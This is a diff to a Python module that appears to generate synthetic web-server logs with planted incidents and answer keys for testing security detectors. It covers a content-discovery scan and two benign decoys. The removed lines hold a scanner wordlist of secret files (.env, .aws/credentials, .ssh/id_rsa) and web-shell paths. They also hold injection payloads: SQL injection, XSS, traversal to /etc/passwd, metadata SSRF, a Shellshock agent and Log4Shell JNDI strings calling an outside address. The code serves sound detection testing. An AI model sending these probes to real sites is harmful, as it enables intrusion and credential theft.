@@ -1,135 +1,155 @@
-"""C. One address tries what is lying about: dot files, backups, other people's admin pages, a few injections.
+"""C. One address tries what is lying about: dot files, backups, other people's admin pages, a few injections. One thing answers that
+should not.
 
-One thing answers that should not.
+Beside it: a researcher who reads what is meant to be read, and a visitor with a folder of old bookmarks.
 """
 
 from __future__ import annotations
 
 from collections.abc import Iterator
+from typing import Any
 
-from data.generator.catalog import KINDS, WEB, Kind
-from data.generator.clock import DAY, HOUR, at, iso
-from data.generator.dice import Dice
-from data.generator.incidents import Incident
-from data.generator.log import Log
-from data.generator.machines import OFFICE
-from data.generator.traffic import Connection, Request
-from data.generator.viewers import TLS13, named
+from data.generator.clock import DAY, MINUTE
+from data.generator.incidents import payloads
+from data.generator.incidents.planted import ATTACK, BENIGN, Planted
+from data.generator.incidents.wordlists import OLD_BROWSERS, agent, wordlist
+from data.generator.traffic.request import Request
+from data.generator.world.catalog import KINDS, Kind
+from data.generator.world.places import BY_CODE
+from data.generator.world.sites import WEB
+from data.generator.world.viewers import TLS13, named, person
 
-SCANNER = "198.51.100.77"
-BEGINS, ENDS = at("2026-03-05 03:10"), at("2026-03-05 03:40")
-LEAK = "/.git/HEAD"
-_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36"
-_OPEN = (("/", 21_300), ("/robots.txt", 118), ("/sitemap.xml", 41_770), ("/login", 8_900), ("/.well-known/security.txt", 230), (LEAK, 23))
-_DOT = (
-    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.git/config", "/.git/index", "/.gitignore", "/.svn/entries", "/.hg/store",
-    "/.DS_Store", "/.htaccess", "/.htpasswd", "/.aws/credentials", "/.aws/config", "/.ssh/id_rsa", "/.ssh/authorized_keys", "/.npmrc",
-    "/.dockercfg", "/.docker/config.json", "/.vscode/sftp.json", "/.idea/workspace.xml", "/.bash_history", "/.profile", "/.netrc",
-    "/.kube/config",
-)  # fmt: skip
-_ADMIN = (
-    "/wp-login.php", "/wp-admin/", "/wp-config.php", "/wp-config.php.bak", "/wp-content/debug.log", "/xmlrpc.php", "/wp-json/wp/v2/users",
-    "/administrator/", "/admin/", "/admin/login", "/admin.php", "/phpmyadmin/", "/pma/", "/mysql/", "/adminer.php", "/phpinfo.php",
-    "/info.php", "/test.php", "/shell.php", "/c99.php", "/server-status", "/server-info", "/actuator", "/actuator/env",
-    "/actuator/heapdump", "/actuator/health", "/jenkins/", "/manager/html", "/solr/", "/console/", "/debug/default/view",
-    "/_profiler/phpinfo", "/telescope/requests", "/horizon/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci",
-    "/cgi-bin/.%2e/%2e%2e/bin/sh", "/boaform/admin/formLogin", "/HNAP1", "/owa/auth/logon.aspx", "/remote/login", "/api/v1/pods",
-    "/v2/_catalog", "/graphql", "/swagger-ui.html", "/api-docs", "/openapi.json", "/config.json", "/package.json", "/composer.json",
-    "/Dockerfile", "/docker-compose.yml",
-)  # fmt: skip
-_NAMES = (
-    "backup", "db", "dump", "site", "www", "shop", "database", "config", "old", "test", "prod", "dev", "data", "sql", "users", "export",
-    "archive", "web", "htdocs", "public", "app", "source", "secret", "credentials", "private", "orders", "customers",
-)  # fmt: skip
-_ENDINGS = (".zip", ".sql", ".tar.gz", ".bak", ".rar", ".7z", ".sql.gz", ".old", ".json", ".yml")
-_INJECTIONS = (
-    "q=%27%20OR%201%3D1--", "q=1%20UNION%20SELECT%20username,password%20FROM%20users", "q=%3Cscript%3Ealert(1)%3C/script%3E",
-    "q=${jndi:ldap://198.51.100.77:1389/a}",
-    "file=../../../../etc/passwd", "page=..%2f..%2f..%2fetc%2fpasswd", "url=http://169.254.169.254/latest/meta-data/",
-    "q={{7*7}}", "cmd=id;cat%20/etc/passwd",
-)  # fmt: skip
-_ODD_AGENTS = (
-    "${jndi:ldap://198.51.100.77:1389/ua}",
-    "<script>alert(document.domain)</script>",
-    "() { :; }; /bin/ping -c 1 198.51.100.77",
-    "",
+_OPEN = (("/", 21_300), ("/robots.txt", 118), ("/sitemap.xml", 41_770), ("/login", 8_900), ("/.well-known/security.txt", 230))
+_LEAKS = (
+    ("/.git/HEAD", 23),
+    ("/backup/orders-2025.sql.gz", 1_883_204),
+    ("/.env.example", 611),
+    ("/config.json", 1_420),
+    ("/.git/config", 271),
 )
+_FILES = {"/robots.txt": "text", "/.well-known/security.txt": "text", "/sitemap.xml": "sitemap"}
+_ODD_REFERER = 'https://www.shop.example/"><img src=x onerror=alert(1)>'
 
 
-def kind(path: str, query: str) -> Kind:
-    files = {"/robots.txt": "text", "/.well-known/security.txt": "text", LEAK: "text", "/sitemap.xml": "sitemap"}
-    return KINDS["search" if query else files.get(path, "personal")]
+def kind_of(path: str, query: str) -> Kind:
+    return KINDS["search" if query else _FILES.get(path, "personal")]
 
 
-class ContentScan(Incident):
-    id = "C"
-    title = "content discovery from one address"
+class ContentScan(Planted):
+    id = "C-content-scan"
+    title = "Content discovery from one address in half an hour; one path answers that should not"
+    kind = ATTACK
+    outcome = "success"
+    keep_rows = True
+    expected = ("security/content_discovery", "security/sensitive_files", "security/sql_injection", "security/cross_site_scripting")
+    tolerated = (
+        "security/probing", "security/recon_tools", "security/path_traversal", "security/command_injection", "security/jndi_injection",
+        "security/web_shell",
+        "security/template_injection", "security/metadata_ssrf", "security/remote_file_inclusion",
+    )  # fmt: skip
 
-    def requests(self) -> Iterator[Request]:
-        """The same 600 and more probes at every scale: a scanner's list does not grow with the shop."""
-        seed = self.world.seed
-        dice = Dice(seed, "scan")
-        targets = [(path, "", 0) for path in (*_DOT, *_ADMIN, *(f"/{name}{ending}" for name in _NAMES for ending in _ENDINGS))]
-        targets += [(dice.pick((*_DOT, *_ADMIN)), "", 0) for _ in range(260)]
-        targets += [(path, "", size) for path, size in _OPEN]
-        targets += [("/search", query, 7_480) for query in _INJECTIONS]
-        places = sorted(range(len(targets)), key=lambda n: (Dice(seed, "scan order", n).unit(), n))
-        plain = named(SCANNER, "NL", "AMS58-P5", _AGENT, "HTTP/2.0", TLS13)
-        ask = Connection(seed, plain, "scan").ask
-        step = (ENDS - BEGINS - 20_000) / len(targets)
-        for turn, place in enumerate(places):
-            path, query, size = targets[place]
-            status = 200 if size else 403 if path.startswith("/.") or dice.chance(0.06) else 404
+    def prepare(self) -> None:
+        self.begins = self.world.when("2026-03-05 03:10", self.id, 150)
+        self.ends = self.begins + (30 if self.world.committed else self.dice.between(20, 55)) * MINUTE
+        self.spans = [(self.begins, self.ends)]
+        self.clients = [self.world.addresses.one(self.id, "198.51.100.77", self.dice.pick(("hosting", "hosting", "hosting6")))]
+        self.leak = _LEAKS[0] if self.world.committed else self.dice.pick(_LEAKS)
+        self.name = agent(self.dice, OLD_BROWSERS)
+
+    def requests(self, day: int) -> Iterator[Request]:
+        """As many probes at every scale: a scanner's list does not grow with the shop."""
+        if day != self.begins // DAY:
+            return
+        dice = self.throw("scan")
+        words = [path for path in wordlist(dice, dice.between(520, 640)) if path != self.leak[0]]
+        targets = [(path, "", 0) for path in words]
+        targets += [(dice.pick(words), "", 0) for _ in range(dice.between(120, 200))]
+        targets += [(path, "", size) for path, size in (*_OPEN, self.leak)]
+        kinds = ["sqli", "sqli", "xss", "xss", *payloads.FORMS]
+        queries = [(payloads.query(dice, kind), kind) for kind in kinds]
+        targets += [("/search", query, 7_480) for query, _ in queries]
+        threats = {query: payloads.recognised(dice, kind, 0.7) for query, kind in queries}
+        place = self.world.addresses.hosting[5]
+        plain = named(self.clients[0], BY_CODE["NL"], "AMS58-P5", self.name, "HTTP/2.0", TLS13, place, "go")
+        ask = self.line(plain, "scan").ask
+        odd = [payloads.jndi(dice), payloads.script(dice), f"() {{ :; }}; {payloads.command(dice).lstrip(';|')}", ""]
+        step = (self.ends - self.begins - 20_000) / len(targets)
+        for turn, (path, query, size) in enumerate(dice.shuffled(targets)):
+            refused = 403 if path.startswith("/.") or dice.chance(0.06) else 404
             request = ask(
-                BEGINS + 4_000 + int(turn * step) + dice.below(1_500),
-                WEB,
-                kind(path, query),
-                path,
-                query=query,
-                status=status,
-                size=size or (919 if status == 403 else 6_120),
-            )
+                self.begins + 4_000 + int(turn * step) + dice.below(1_500), WEB, kind_of(path, query), path, query=query,
+                status=200 if size else refused, size=size or (919 if refused == 403 else 6_120), threat=threats.get(query, ""),
+            )  # fmt: skip
+            if not query and not size and path.endswith((".bak", ".log", ".ini", ".conf")) and dice.chance(0.6):
+                request.threat = "extension"
             if turn % 40 == 17:
-                odd = _ODD_AGENTS[turn // 40 % len(_ODD_AGENTS)]
-                request.viewer = named(SCANNER, "NL", "AMS58-P5", odd, "HTTP/2.0", TLS13)
+                request.viewer = plain.but(user_agent=odd[turn // 40 % len(odd)])
+                request.threat = request.threat or (
+                    "log4j-header" if "jndi" in request.viewer.user_agent else "" if request.viewer.user_agent else "no-agent"
+                )
             if turn % 90 == 31:
-                request.referer = 'https://www.shop.example/"><img src=x onerror=alert(1)>'
+                request.referer = _ODD_REFERER
             yield request
 
-    def truth(self, log: Log) -> dict[str, object]:
-        scan = [a for a in log.answers if a.request.viewer.ip == SCANNER]
-        refused = [a for a in scan if a.status in (403, 404)]
-        office = [a for a in log.answers if a.request.viewer.ip == OFFICE]
-        day = [a for a in log.window(at("2026-03-04"), at("2026-03-04") + DAY) if a.request.viewer.ip == OFFICE]
-        hour = [a for a in log.window(at("2026-03-04 10:00"), at("2026-03-04 10:00") + HOUR) if a.request.viewer.ip == OFFICE]
+    def tell(self, log: Any) -> dict[str, Any]:
+        rows = log.tallies[self.id].rows
+        refused = [r for r in rows if r.status in (403, 404)]
         return {
-            "id": self.id,
-            "kind": "content_discovery",
-            "title": self.title,
-            "window": {"start": iso(BEGINS), "end": iso(ENDS)},
-            "distribution": WEB,
-            "client": SCANNER,
-            "requests": len(scan),
-            "by_status": log.counted(f"{a.status:03d}" for a in scan),
-            "refused_403_404": len(refused),
-            "distinct_paths": len({a.request.path for a in scan}),
-            "distinct_refused_paths": len({a.request.path for a in refused}),
-            "answered_200": sorted({a.request.path for a in scan if a.status == 200}),
-            "leak": {
-                "path": LEAK,
-                "why": "answered 200: the repository folder is published; everything else that answered is meant to be public",
-            },
-            "near_misses": [
-                {
-                    "what": "an office behind one address: many requests, many paths, many user agents, ordinary statuses",
-                    "client": OFFICE,
-                    "requests": len(office),
-                    "by_status": log.counted(f"{a.status:03d}" for a in office),
-                    "requests_on_2026_03_04": len(day),
-                    "requests_2026_03_04_10h": len(hour),
-                    "distinct_paths": len({a.request.path for a in office}),
-                    "distinct_user_agents": len({a.request.viewer.user_agent for a in office}),
-                    "refused_403_404": sum(a.status in (403, 404) for a in office),
-                },
-            ],
-        }
+            "refused_403_404": len(refused), "distinct_paths": len({r.path for r in rows}),
+            "distinct_refused_paths": len({r.path for r in refused}),
+            "answered_200": sorted({r.path for r in rows if r.status == 200}),
+            "leak": {"path": self.leak[0], "request_ids": sorted(r.id for r in rows if r.path == self.leak[0] and r.status == 200)},
+        }  # fmt: skip
+
+
+class Researcher(Planted):
+    id = "polite-researcher"
+    title = "A researcher looks for whom to write to: security.txt, robots.txt, the imprint, the well-known files of an app"
+    kind = BENIGN
+    quiet = ("security/sensitive_files", "security/content_discovery", "security/recon_tools")
+
+    def prepare(self) -> None:
+        self.when = self.world.when("2026-03-05 10:20", self.id, 240)
+        self.spans = [(self.when, self.when + 20 * MINUTE)]
+        self.clients = self.world.addresses.many(self.id, 1, "access")
+
+    def requests(self, day: int) -> Iterator[Request]:
+        if day != self.when // DAY:
+            return
+        viewer = person(self.world, BY_CODE["NL"], 4_711).but(ip=self.clients[0])
+        ask, dice, when = self.line(viewer).ask, self.throw("paths"), self.when
+        for path, size in (("/.well-known/security.txt", 230), ("/robots.txt", 118), ("/imprint", 0),
+            ("/.well-known/apple-app-site-association", 412),
+                           ("/.well-known/assetlinks.json", 388), ("/.well-known/change-password", 0)):  # fmt: skip
+            when += dice.between(9_000, 90_000)
+            yield ask(when, WEB, KINDS["text"], path, size=size or 6_120, status=404 if path.endswith("password") else 200)
+
+
+class OldBookmarks(Planted):
+    id = "old-bookmarks"
+    title = "A visitor opens a folder of old bookmarks: a dozen pages that are gone, in one minute"
+    kind = BENIGN
+    quiet = ("security/content_discovery", "security/probing", "security/sensitive_files")
+
+    def prepare(self) -> None:
+        self.when = self.world.when("2026-03-05 18:40", self.id, 120)
+        self.spans = [(self.when, self.when + 2 * MINUTE)]
+        self.clients = self.world.addresses.many(self.id, 1, "access")
+
+    def requests(self, day: int) -> Iterator[Request]:
+        if day != self.when // DAY:
+            return
+        ask, dice = self.line(person(self.world, BY_CODE["DE"], 8_150).but(ip=self.clients[0])).ask, self.throw("pages")
+        for n in range(dice.between(11, 16)):
+            number = dice.between(8_000, 9_990)
+            yield ask(
+                self.when + n * 900 + dice.below(800),
+                WEB,
+                KINDS["page"],
+                f"/p/{dice.pick(('tin', 'brass', 'clay'))}-{dice.pick(('bell', 'cup', 'lid'))}-{number}",
+                status=404,
+                size=6_120,
+            )
+
+
+PLANTED = (ContentScan, Researcher, OldBookmarks)
